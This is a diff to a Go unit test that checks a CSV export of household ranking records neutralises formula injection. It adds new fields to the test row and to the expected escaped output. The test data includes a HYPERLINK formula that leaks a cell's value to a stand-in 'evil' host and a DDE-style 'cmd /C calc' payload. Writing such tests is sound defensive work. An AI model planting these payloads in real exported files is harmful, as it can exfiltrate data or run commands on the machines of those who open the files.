@@ -48,14 +48,15 @@ func TestCell(t *testing.T) {
 func TestCSVInjectionNeutralised(t *testing.T) {
 	rows := []Row{{HouseholdID: `=HYPERLINK("http://evil/?x="&A1,"click")`, RegionCode: "520123100201", CountyCode: "520123",
 		TownshipCode: "520123100", PovertyStatus: "general", Score: 0.5, Rank: 1, RankCounty: 1, RankTownship: 1, Tier: "high",
-		Reasons: "+cmd|' /C calc'!A0", ReasonsEn: "@SUM(1+1)", Conflicts: "－1", NetIncomePC12m: -1200.5, OOPMedical12m: math.NaN()}}
+		Reasons: "+cmd|' /C calc'!A0", ReasonsEn: "@SUM(1+1)", Conflicts: "－1", NetIncomePC12m: -1200.5, OOPMedical12m: math.NaN(),
+		CountyName: "+县", EliminatedDate: "2025-06-30", Watch: true}}
 	var buf bytes.Buffer
 	if err := WriteRankedCSV(&buf, rows); err != nil {
 		t.Fatal(err)
 	}
 	lines := strings.Split(strings.TrimPrefix(buf.String(), utf8BOM), "\n")
 	want := `"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",520123100201,520123,520123100,general,0.5,1,1,1,high,false,,,,,,,` +
-		`'+cmd|' /C calc'!A0,'@SUM(1+1),,'－1,,,-1200.5,`
+		`'+cmd|' /C calc'!A0,'@SUM(1+1),,'－1,,,-1200.5,,'+县,,,2025-06-30,true`
 	if lines[1] != want {
 		t.Errorf("ranked.csv row:\n got %s\nwant %s", lines[1], want)
 	}
